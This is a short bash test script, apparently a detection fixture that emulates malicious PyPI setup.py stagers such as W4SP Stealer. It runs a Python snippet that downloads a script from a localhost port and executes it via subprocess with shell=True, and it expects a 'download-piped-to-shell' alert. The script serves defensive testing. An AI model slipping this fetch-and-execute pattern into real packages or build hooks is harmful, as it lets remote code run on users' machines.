#!/bin/bash
# technique: T1105 Ingress Tool Transfer; T1059.006 Command and Scripting Interpreter: Python; T1059.004 Unix Shell
# reproduces: setup.py and build-hook stagers that download a shell script and hand it to subprocess.run(body, shell=True): the shell form of W4SP Stealer's `exec(requests.get(URL).text)` (PyPI, 2022); the script's text becomes sh's -c argument inside Python, with no pipe and no file
# expect: download-piped-to-shell ^(da)?sh$
# exec-borne: yes
#
# The Python program comes on stdin (a here-document), so the command
# line says nothing; what the kernel shows is a process that connected,
# then handed a shell a whole script inline.
set -u

command -v python3 >/dev/null 2>&1 || { echo "python3 not installed" >&2; exit 77; }

python3 - "http://127.0.0.1:${BW_ATTACK_PORT:?}/install.sh" <<'PY'
import subprocess
import sys
import urllib.request

body = urllib.request.urlopen(sys.argv[1], timeout=5).read().decode()
subprocess.run(body, shell=True, check=True)
PY
